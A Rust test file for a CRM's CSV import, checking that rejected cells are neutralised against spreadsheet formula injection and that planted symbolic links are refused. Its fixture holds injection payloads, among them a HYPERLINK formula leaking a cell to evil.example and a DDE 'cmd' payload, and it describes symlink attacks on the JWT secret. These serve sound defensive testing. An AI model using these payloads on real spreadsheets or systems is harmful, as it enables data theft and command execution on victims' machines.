//! `FILE.rejects.csv` (issue 22): its cells are neutralised like every CSV the program writes and
//! read back as they were, it is never written through a link planted in its place, and the run
//! says that it holds personal data. The same rule for links holds for the data directory's files.

use std::path::Path;

use diesel::prelude::*;
use diesel::sql_types::{Nullable, Text};

use super::{count, rejects, workdir, write};
use crate::support::{spreadsheet_would_run, TestApp};

/// Three rows rejected for their birthday, with cells that start like formulas (a tab and a
/// carriage return too, quoted in the file as a spreadsheet saves them) and plain numbers that
/// must stay numbers: a negative balance, a negative count, an E.164 phone.
const FORMULAS: &str = "phone,name,city,birthday,attr:balance\r\n\
13800000101,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",+cmd,1990-13-45,-12.50\r\n\
13800000102,@SUM(A1:A9),-2+3,1990-13-45,-3\r\n\
+86 138 0000 0103,\"\t=1+2\",\"\r=cmd|'/c calc'!A0\",1990-13-45,+8613800000103\r\n";

#[derive(QueryableByName, Debug, PartialEq)]
struct Imported {
    #[diesel(sql_type = Nullable<Text>)]
    phone: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    name: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    city: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    balance: Option<String>,
}

fn imported(app: &TestApp) -> Vec<Imported> {
    diesel::sql_query("SELECT phone, name, city, attributes->>'balance' AS balance FROM customers ORDER BY phone")
        .load(&mut app.conn())
        .unwrap_or_else(|e| panic!("{e}"))
}

/// The rejected rows, fixed (a real birthday) and without `line` and `reason`: what an operator
/// imports again.
fn fixed(rejected: &[(u64, String, Vec<String>)]) -> Vec<u8> {
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(["phone", "name", "city", "birthday", "attr:balance"]).unwrap_or_else(|e| panic!("{e}"));
    for (_, _, cells) in rejected {
        let mut cells = cells.clone();
        cells[3] = "1990-12-25".into();
        out.write_record(&cells).unwrap_or_else(|e| panic!("{e}"));
    }
    out.into_inner().unwrap_or_else(|e| panic!("{e}"))
}

/// Findings 4 and 9: each cell a spreadsheet would run is quoted in the rejects file, plain
/// numbers are not, the run says the file holds personal data — and the fixed file imports
/// every value as the first file had it.
#[actix_web::test]
async fn rejected_cells_a_spreadsheet_would_run_are_quoted_and_import_again_as_written() {
    let app = TestApp::new().await;
    let dir = workdir();
    let file = write(&dir, "customers.csv", FORMULAS.as_bytes());
    let run = app.cli(&["import", "customers", &file]);
    run.assert_success();
    assert_eq!(run.figure("rejected"), 3, "{}", run.stdout);
    let notice = format!("3 rows rejected: see {file}.rejects.csv — it holds customers' personal data");
    assert!(run.stdout.contains(&notice), "{}", run.stdout);

    let rejected = rejects(&file);
    let cells: Vec<Vec<&str>> = rejected.iter().map(|(_, _, c)| c.iter().map(String::as_str).collect()).collect();
    assert_eq!(
        cells,
        [
            vec!["13800000101", "'=HYPERLINK(\"https://evil.example/?\"&A1)", "'+cmd", "1990-13-45", "-12.50"],
            vec!["13800000102", "'@SUM(A1:A9)", "'-2+3", "1990-13-45", "-3"],
            vec!["'+86 138 0000 0103", "'\t=1+2", "'\r=cmd|'/c calc'!A0", "1990-13-45", "+8613800000103"],
        ]
    );
    for (line, reason, cells) in &rejected {
        let line = line.to_string();
        for cell in cells.iter().chain([reason, &line]) {
            assert!(!spreadsheet_would_run(cell), "a spreadsheet would run {cell:?}");
        }
    }

    let again = write(&dir, "fixed.csv", &fixed(&rejected));
    app.cli(&["import", "customers", &again]).assert_success();
    let text = |s: &str| Some(s.to_string());
    assert_eq!(
        imported(&app),
        [
            Imported {
                phone: text("+8613800000101"),
                name: text("=HYPERLINK(\"https://evil.example/?\"&A1)"),
                city: text("+cmd"),
                balance: text("-12.50"),
            },
            Imported {
                phone: text("+8613800000102"),
                name: text("@SUM(A1:A9)"),
                city: text("-2+3"),
                balance: text("-3")
            },
            Imported {
                phone: text("+8613800000103"),
                name: text("=1+2"),
                city: text("=cmd|'/c calc'!A0"),
                balance: text("+8613800000103"),
            },
        ],
        "the values as the first file had them (trimmed, as every cell is)"
    );
}

/// A victim file, and a link at `at` (replacing what is there) to `target` in `dir`: the victim, or
/// a file that does not exist yet.
fn plant(dir: &Path, at: &str, target: &str) {
    std::fs::write(dir.join("victim.txt"), "precious").unwrap_or_else(|e| panic!("{e}"));
    let _ = std::fs::remove_file(at);
    std::os::unix::fs::symlink(dir.join(target), at).unwrap_or_else(|e| panic!("{at}: {e}"));
}

fn assert_refused(run: &crate::support::CliRun, link: &str) {
    assert_eq!(run.status, Some(1), "{}\n{}", run.stdout, run.stderr);
    let said = format!("refusing to write {link}: it is a symbolic link");
    assert!(run.stderr.contains(&said), "{}", run.stderr);
}

fn assert_untouched(dir: &Path) {
    assert_eq!(std::fs::read_to_string(dir.join("victim.txt")).unwrap_or_default(), "precious");
    assert!(!dir.join("planted.txt").exists(), "nothing was created through the dangling link");
}

/// Finding 10, a fresh run: a link planted at `FILE.rejects.csv` (to a victim file, or to where
/// none exists yet) is refused, naming it, before any row is imported.
#[actix_web::test]
async fn a_link_planted_at_the_rejects_file_is_refused_before_any_row_and_its_target_left_alone() {
    let app = TestApp::new().await;
    let dir = workdir();
    let file = write(&dir, "customers.csv", FORMULAS.as_bytes());
    let rejects_path = format!("{file}.rejects.csv");
    for target in ["victim.txt", "planted.txt"] {
        plant(&dir, &rejects_path, target);
        assert_refused(&app.cli(&["import", "customers", &file]), &rejects_path);
        assert_untouched(&dir);
    }
    assert_eq!(count(&app, "SELECT count(*) AS n FROM customers"), 0);
    assert_eq!(count(&app, "SELECT count(*) AS n FROM import_runs"), 0, "no run was started");
}

/// Finding 10, a resumed run: a link swapped in for the rejects file of an interrupted run is
/// refused before the run continues; once it is removed, the run continues and ends.
#[actix_web::test]
async fn a_link_swapped_in_for_an_interrupted_runs_rejects_file_is_refused_too() {
    let app = TestApp::new().await;
    let dir = workdir();
    let file = write(&dir, "customers.csv", FORMULAS.as_bytes());
    let killed = app.cli(&["import", "customers", &file, "--batch-rows", "1", "--stop-after-batches", "1"]);
    assert_eq!(killed.status, Some(retail_crm::import::STOPPED_EXIT_CODE), "{killed:?}");
    let rejects_path = format!("{file}.rejects.csv");
    let before = std::fs::read(&rejects_path).unwrap();
    plant(&dir, &rejects_path, "victim.txt");
    let run = app.cli(&["import", "customers", &file, "--batch-rows", "1"]);
    assert_refused(&run, &rejects_path);
    assert_untouched(&dir);
    assert_eq!(count(&app, "SELECT count(*) AS n FROM import_runs WHERE finished_at IS NULL"), 1, "still unfinished");

    std::fs::remove_file(&rejects_path).unwrap();
    std::fs::write(&rejects_path, &before).unwrap();
    let resumed = app.cli(&["import", "customers", &file, "--batch-rows", "1"]);
    resumed.assert_success();
    assert_eq!(resumed.figure("resumed"), 1, "{}", resumed.stdout);
    assert_eq!(rejects(&file).len(), 3);
}

/// Finding 10, the service's data directory: a link planted at the generated `admin-client.json`
/// (its target would be overwritten) or at `jwt-secret` (tokens would be signed with a secret the
/// planter chose) stops the start-up, naming the link — before the admin client is created.
#[test]
fn links_planted_in_the_data_directory_stop_the_start_up() {
    let (_, url) = crate::support::fresh_database();
    let dir = workdir();
    let config = retail_crm::config::Config { data_dir: dir.clone(), jwt_secret: None, ..Default::default() };
    let start = || retail_crm::server::prepare(&config, &url).err().unwrap_or_default();

    let admin_file = dir.join("admin-client.json").display().to_string();
    plant(&dir, &admin_file, "victim.txt");
    let refused = start();
    assert!(refused.contains(&format!("refusing to write {admin_file}: it is a symbolic link")), "{refused}");
    assert_untouched(&dir);
    let mut conn = diesel::PgConnection::establish(&url).unwrap_or_else(|e| panic!("{e}"));
    let clients: i64 =
        diesel::select(diesel::dsl::sql::<diesel::sql_types::BigInt>("(SELECT count(*) FROM api_clients)"))
            .get_result(&mut conn)
            .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(clients, 0, "no admin client whose secret nobody saw");

    std::fs::remove_file(&admin_file).unwrap_or_else(|e| panic!("{e}"));
    let secret_file = dir.join("jwt-secret").display().to_string();
    std::fs::write(dir.join("known.txt"), "a secret the planter knows, long enough to be used").unwrap_or_default();
    plant(&dir, &secret_file, "known.txt");
    let refused = start();
    assert!(refused.contains(&format!("refusing to read {secret_file}: it is a symbolic link")), "{refused}");
}
